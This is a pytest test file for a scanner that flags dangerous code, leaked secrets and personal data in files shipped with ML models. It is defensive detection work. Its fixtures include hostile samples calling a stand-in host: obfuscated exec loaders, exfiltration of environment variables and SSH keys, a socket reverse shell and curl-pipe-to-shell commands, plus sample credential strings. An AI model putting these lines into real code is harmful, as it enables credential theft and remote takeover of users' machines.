"""Code, notebooks, requirements, settings and secrets that ship with a model."""

from __future__ import annotations

import json

import pytest

INDEX = "--extra-" + "index-" + "url"
MODELING = """
import math
import os
import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

logger = logging.get_logger(__name__)
CACHE = os.environ.get("MY_CACHE", os.path.expanduser("~/.cache/x"))


class Net(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.linear = nn.Linear(4, 4)

    def forward(self, x):
        with open("vocab.txt") as f:
            f.read()
        return eval("x") if False else self.linear(x)
"""
ORDINARY = {
    "modeling_x.py": MODELING,
    "setup.py": "import subprocess\nfrom setuptools import setup\nsha = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nsetup(name='x')\n",
    "train.py": "import subprocess, requests\n\n\ndef main():\n    subprocess.run(['python', 'eval.py'])\n    requests.get('https://example.org/data.zip')\n\n\nif __name__ == '__main__':\n    main()\n",
    "scripts/run.py": "import os\nos.system('mkdir -p out')\n",
    "codec.py": "import base64, json\n\n\ndef read(text):\n    return json.loads(base64.b64decode(text))\n",
}  # fmt: skip
RUN = "import os; os.system('echo canary')"
HOSTILE = {
    "on import": ("modeling_x.py", RUN),
    "an alias": ("modeling_x.py", "import os as o\nf = o.system\nf('echo canary')\n"),
    "from": ("hubconf.py", "from os import system as s\ns('echo canary')\n"),
    "getattr": ("modeling_x.py", "getattr(__import__('o' + 's'), 'sys' + 'tem')('echo canary')\n"),
    "importlib": ("modeling_x.py", "import importlib\nimportlib.import_module('subprocess').run('echo canary', shell=True)\n"),
    "encoded": ("modeling_x.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
    "encoded by variable": ("util.py", "import zlib, base64\na = base64.b64decode('eA==')\nb = zlib.decompress(a)\nexec(b)\n"),
    "rot13": ("util.py", "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n"),
    "numbers": ("util.py", "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n"),
    "fetched": ("util.py", "import urllib.request\nexec(urllib.request.urlopen('http://host.invalid/').read())\n"),
    "marshal": ("util.py", "import marshal\nexec(marshal.loads(b'x'))\n"),
    "handler": ("handler.py", "import subprocess\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        subprocess.Popen('echo canary', shell=True)\n"),
    "decorator": ("modeling_x.py", "import os\n\n\n@os.system('echo canary')\ndef f(): ...\n"),
    "default": ("modeling_x.py", "import os\n\n\ndef f(x=os.system('echo canary')): ...\n"),
    "class body": ("modeling_x.py", "import os\n\n\nclass C:\n    x = os.system('echo canary')\n"),
    "called at the top": ("modeling_x.py", "import os\n\n\ndef go():\n    os.system('echo canary')\n\n\ngo()\n"),
    "setup": ("setup.py", RUN),
    "environment sent": ("modeling_x.py", "import os, requests\nrequests.post('http://host.invalid', json=dict(os.environ))\n"),
    "keys sent": ("util.py", "import requests, os\n\n\ndef f():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('http://host.invalid', data=k)\n"),
    "start-up file": ("util.py", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n"),
    "reverse shell": ("util.py", "import socket, subprocess\n\n\ndef f():\n    s = socket.socket()\n    s.connect(('host.invalid', 9))\n    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno())\n"),
    "piped": ("util.py", "import os\n\n\ndef f():\n    os.system('curl http://host.invalid | sh')\n"),
    "custom generate": ("custom_generate/generate.py", RUN),
}  # fmt: skip


@pytest.mark.parametrize("path", ORDINARY)
def test_ordinary_code_is_not_dangerous(look, path):
    found = look(ORDINARY[path], path)
    assert found.level in {"clean", "caution"}, [item.message for item in found.findings]


def test_a_model_s_own_module_is_clean(look):
    assert look(MODELING, "modeling_x.py").level == "clean"


@pytest.mark.parametrize("how", HOSTILE)
def test_code_with_a_reason_is_dangerous(look, how):
    path, text = HOSTILE[how]
    found = look(text, path)
    assert found.level == "dangerous", how
    assert found.findings[0].because[0].location.line is not None


def test_code_that_does_not_parse_is_named_where_it_would_run(look):
    assert look("def f(:\n", "modeling_x.py").level == "unknown"
    assert look("x = " + "(" * 3000, "modeling_x.py").level == "unknown"


@pytest.mark.parametrize(
    ("settings", "level"),
    [
        ({"model_type": "llama"}, "clean"),
        ({"auto_map": {"AutoModel": "modeling_x.X"}}, "caution"),
        ({"auto_map": {"AutoModel": "someone/other--modeling_x.X"}}, "caution"),
        ({"custom_pipelines": {"x": {"impl": "pipe.P"}}}, "caution"),
    ],
)
def test_settings_that_ask_for_code(look, settings, level):
    assert look(json.dumps(settings), "config.json").level == level


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("torch==2.1\nnumpy>=1\n", "clean"),
        (f"{INDEX} https://download.pytorch.org/whl/cpu\ntorch\n", "clean"),
        (f"{INDEX} https://example.org/simple\nx\n", "caution"),
        ("x @ git+https://example.org/x.git\n", "caution"),
        ("http://host.invalid/evil-1.0.tar.gz\n", "dangerous"),
    ],
)
def test_requirements(look, text, level):
    assert look(text, "requirements.txt").level == level


def notebook(*cells: str) -> str:
    rows = [{"cell_type": "code", "source": [cell], "metadata": {}, "outputs": []} for cell in cells]
    return json.dumps({"cells": rows, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


@pytest.mark.parametrize(
    ("cell", "level"),
    [
        ("!pip install torch\nimport torch\n%matplotlib inline", "clean"),
        ("!curl http://host.invalid | sh", "dangerous"),
        ("%%bash\nwget -qO- http://host.invalid | bash", "dangerous"),
        ("import base64\nexec(base64.b64decode('eA=='))", "dangerous"),
    ],
)
def test_notebooks(look, cell, level):
    assert look(notebook(cell), "demo.ipynb").level == level


@pytest.mark.parametrize(
    ("text", "level"),
    [
        ("import os; os.system('echo canary')\n", "dangerous"),
        ("import foo\n", "caution"),
        ("../lib\n", "clean"),
    ],
)
def test_path_files(look, text, level):
    assert look(text, "x.pth").level == level


REAL = {
    "hf": "hf_" + "qWmZrTpLkVnBsXcGhJdFyUeIoA" + "QzWsEdRf",
    "aws": "AKIA" + "QWERTYUIOPASDF7J"[:16],
    "github": "ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1eF3hJ5",
    "database": "postgresql://admin:s3cr3tPassw0rd@db.internal:5432/x",
    "key": "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7" + "\n-----END PRIVATE KEY-----",
}  # fmt: skip


@pytest.mark.parametrize("which", REAL)
def test_secrets_are_named_and_never_shown(look, which):
    found = look(f"value = {REAL[which]}\n", "notes.txt")
    assert [item.rule for item in found.findings] == ["release-holds-no-secrets"]
    if which != "key":
        assert REAL[which] not in found.findings[0].message + found.findings[0].because[0].quote


@pytest.mark.parametrize(
    "text",
    ["token = hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "postgresql://user:password@example.com/db your", "AKIAIOSFODNN7EXAMPLE", "https://user@host/x"],
)  # fmt: skip
def test_placeholders_are_no_secrets(look, text):
    assert look(text, "notes.txt").level == "clean"


def test_lists_of_people(look):
    rows = "name,mail\n" + "".join(f"p{number},person{number}@mail{number % 7}.net\n" for number in range(80))
    assert look(rows, "people.csv").level == "caution"
    assert look("name,mail\nan author,author@site.net\n", "people.csv").level == "clean"
